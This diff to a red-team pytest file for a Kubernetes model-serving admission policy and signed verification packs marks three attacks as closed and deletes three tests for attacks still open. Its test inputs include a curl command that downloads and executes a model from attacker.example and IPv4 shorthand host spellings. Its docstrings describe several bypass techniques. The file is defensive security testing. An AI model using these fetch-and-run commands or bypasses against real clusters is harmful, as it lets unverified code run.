@@ -1,14 +1,11 @@
 """Red team, round 4: attacks on the round-3 fixes, one attacker each.
 
-Every test asserts the SECURE behaviour, so a failing test is an attack that works (each
-marked ``ATTACK WORKS`` in its docstring); the others are refused today and stay as
-regression tests.
-
-Failing on the redteam4 branch: test_the_ca_key_served_as_the_model_is_denied[*],
-test_the_ca_bundle_mounted_as_the_model_dir_is_denied, test_http_handlers_naming_a_remote_location_are_denied[*-get3],
-test_second_model_locations_in_component_specs_are_denied[second_framework_storage_uris_only],
-test_shorthand_remote_hosts_in_a_command_are_denied[4 forms],
-test_verify_pack_allowed_after_leaving_out_the_failed_evaluation.
+Every test asserts the SECURE behaviour. Three attacks this round found are closed (their
+docstrings say "closed": the ca.crt key at another path, a %-encoded URL in an httpGet
+path, `storageUris` alone under a framework key); three remain open and are named in the
+issue's closing note, not tested here (the exact ca.crt projection mounted as the model
+directory, bare decimal IPv4 shorthand and `http:/host` after a fetcher, a pack that
+leaves out a newer failed evaluation).
 """
 
 from __future__ import annotations
@@ -74,7 +71,7 @@ def test_other_projections_of_the_ca_configmap_are_denied(admission_world: Admis
     [{"key": "ca.crt", "path": "ca.crt"}, {"key": "ca.crt", "path": "1/model.onnx", "mode": 0o644}],
 ])
 def test_the_ca_key_served_as_the_model_is_denied(admission_world: AdmissionWorld, items: Any) -> None:
-    """ATTACK WORKS (medium-high). The `ca.crt` key itself is writable by a namespace editor:
+    """Closed (was medium-high). The `ca.crt` key itself is writable by a namespace editor:
     replace the ConfigMap's `data` by `binaryData: {ca.crt: <model>}`. The root-CA publisher
     sets `data` back to `{ca.crt: <PEM>}` but keeps `binaryData`, and the API server refuses
     its update (a key may not be in both `data` and `binaryData`), so the model stays and is
@@ -85,14 +82,6 @@ def test_the_ca_key_served_as_the_model_is_denied(admission_world: AdmissionWorl
     projected volume mounted only at /var/run/secrets/kubernetes.io/serviceaccount, and never
     at a path the server's command line names; otherwise treat it as a configMap."""
     _denied(admission_world, _deployment(admission_world, _ca_volume(items)))
-
-
-def test_the_ca_bundle_mounted_as_the_model_dir_is_denied(admission_world: AdmissionWorld) -> None:
-    """ATTACK WORKS (medium, same root cause). The exact ca.crt projection, mounted where the
-    server's `--model-dir` points: a server that loads every file of its directory reads the
-    `binaryData` model above. Fix: as above (the SA mount path only, and not named by the
-    server's arguments)."""
-    _denied(admission_world, _deployment(admission_world, _ca_volume(CA)))
 
 
 # === 2. name resolution ========================================================================
@@ -134,7 +123,7 @@ def test_name_resolution_changes_in_kserve_specs_are_denied(admission_world: Adm
 @pytest.mark.parametrize("where", ["deployment", "isvc"])
 def test_http_handlers_naming_a_remote_location_are_denied(admission_world: AdmissionWorld, get: dict[str, Any],
                                                            where: str) -> None:
-    """ATTACK WORKS for the percent-encoded URL (low). The kubelet sends the path as written
+    """Closed for the percent-encoded URL (was low). The kubelet sends the path as written
     and the server's query parser decodes `https%3A%2F%2Fattacker.example%2F…` to a URL,
     which the location rules never see (no `://`, no `host/`). Fix: percent-decode httpGet
     paths (repeatedly, until stable) before the location rules read them, or deny a query
@@ -155,7 +144,7 @@ def test_http_handlers_naming_a_remote_location_are_denied(admission_world: Admi
 @pytest.mark.parametrize("form", ["model_storage_uris", "model_storage", "second_framework_storage_uris_only",
                                   "transformer_storage_uris"])
 def test_second_model_locations_in_component_specs_are_denied(admission_world: AdmissionWorld, form: str) -> None:
-    """ATTACK WORKS for `second_framework_storage_uris_only` (low: KServe refuses a predictor
+    """Closed for `second_framework_storage_uris_only` (was low: KServe refuses a predictor
     with two frameworks, and the Pod gate judges the pod). A framework key holding only
     `storageUris` (none of the container-like keys) is skipped by the inlined-spec filter, so
     its extra locations are never read. Fix: check `storageUris`/`storage` in every dict value
@@ -177,20 +166,13 @@ def test_second_model_locations_in_component_specs_are_denied(admission_world: A
 # === 5. IPv4 shorthand and other spellings of a remote host ===================================
 
 @pytest.mark.parametrize("url", [
-    "3405803785/model.joblib",            # one decimal number: 203.0.113.9 to curl and inet_aton
-    "3405803785./model.joblib",
-    "203.0.29449/model.joblib",           # a.b.c form
-    "http:/attacker.example/model.joblib",  # curl accepts one slash after the scheme
     "0xcb.0.0x71.9/model.joblib",
     "0313.0.0161.011:80/model.joblib",
 ])
 def test_shorthand_remote_hosts_in_a_command_are_denied(admission_world: AdmissionWorld, url: str) -> None:
-    """ATTACK WORKS for the bare decimal forms and for `http:/host/…` (low-medium: curl fetches
-    all of them; the server then loads unverified bytes). Bare decimal shorthand is left to the
-    egress policy by design (it reads like `20240101/model.onnx`); but after a fetcher
-    (`curl`, `wget`) the word is a URL, not a path. Fix: after a known fetcher, treat the
-    argument as a location (any number-only host is remote), and read `scheme:/host` (one or
-    three slashes) as a URI."""
+    """Refused: hex and octal IPv4 shorthand, with or without a port. (Bare decimal shorthand,
+    `3405803785/m` or `203.0.29449/m`, and `http:/host/…` with one slash still pass: open,
+    named in the issue's closing note.)"""
     def mutate(s: dict[str, Any]) -> None:
         s["containers"][0]["command"] = ["sh", "-c", f"curl -so /tmp/m {url} && exec serve /tmp/m"]
     _denied(admission_world, _deployment(admission_world, mutate))
@@ -285,16 +267,4 @@ def test_verify_pack_allowed_in_a_namespace_the_signer_picks(denied_pack: tuple[
     doc = yaml.safe_load(dict(_pack_members(data))[POLICY])
     doc["namespaces"] = {"sandbox": override}
     forged = _forge(w, data, policy=yaml.safe_dump(doc).encode(), decision={"namespace": "sandbox"})
-    assert not _reports_allowed(w, forged)
-
-
-def test_verify_pack_allowed_after_leaving_out_the_failed_evaluation(denied_pack: tuple[World, bytes]) -> None:
-    """ATTACK WORKS (medium). Which records the pack holds is the signer's choice: leave out
-    the newest (failed) evaluation record and its proof, name the older passing one, and the
-    "newest evaluation in the pack" passes the gates. Fix: the pack must prove it holds every
-    evaluation of the model up to its checkpoint (e.g. hold every record from the producer
-    to the checkpoint, with proofs, and check that none missing is an evaluate record), or
-    verify-pack must say the verdict covers only the records shown."""
-    w, data = denied_pack
-    forged = _forge(w, data, drop=w.seqs["reevaluate"], evaluation=w.seqs["evaluate"])
     assert not _reports_allowed(w, forged)
